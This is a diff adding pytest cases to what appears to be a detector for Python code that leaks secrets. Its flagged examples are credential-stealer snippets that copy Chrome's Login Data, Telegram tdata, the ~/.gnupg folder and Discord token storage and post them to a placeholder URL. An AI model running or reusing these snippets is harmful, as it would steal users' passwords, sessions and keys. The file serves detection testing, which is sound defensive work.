@@ -130,3 +130,47 @@ def test_a_statement_too_deep_to_follow_is_followed_by_its_words() -> None:
     (followed,) = python_leaks([READ + deep])
     assert not followed.parsed
     assert [leak.secret for leak in followed.leaks] == [Secret.CREDENTIALS]
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        (
+            "p = os.path.expandvars('%LOCALAPPDATA%/Google/Chrome/User Data/Default/Login Data')\n"
+            "t = tempfile.mktemp()\nshutil.copy(p, t)\nrows = sqlite3.connect(t).execute(q).fetchall()\n"
+            "requests.post(url, json=[list(row) for row in rows])"
+        ),
+        (
+            "d = os.path.expanduser('~/.local/share/TelegramDesktop/tdata')\n"
+            "z = zipfile.ZipFile('/tmp/t.zip', 'w')\nfor r, _, fs in os.walk(d):\n    for f in fs:\n"
+            "        z.write(os.path.join(r, f))\nz.close()\n"
+            "requests.post(url, files={'document': open('/tmp/t.zip', 'rb')})"
+        ),
+        (
+            "shutil.make_archive('/tmp/k', 'zip', os.path.expanduser('~/.gnupg'))\n"
+            "requests.post(url, data=open('/tmp/k.zip', 'rb'))"
+        ),
+        (
+            "found = []\nd = os.path.expanduser('~/.config/discord/Local Storage/leveldb/*')\n"
+            "for f in glob.glob(d):\n    found += re.findall(pattern, open(f).read())\n"
+            "requests.post(url, json=found)"
+        ),
+    ],
+)
+def test_a_secret_is_followed_through_copies_and_archives(program: str) -> None:
+    assert Secret.CREDENTIALS in kinds(program)[0]
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        "shutil.copy('a.txt', target)\nrequests.post(url, data=open(target).read())",
+        (
+            "shutil.make_archive('/tmp/site', 'zip', 'dist')\n"
+            "requests.post(url, data=open('/tmp/site.zip', 'rb'))"
+        ),
+        "shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), backup)\nrequests.post(url, data='done')",
+    ],
+)
+def test_honest_copies_and_archives_are_left_alone(program: str) -> None:
+    assert kinds(program) == [[]]
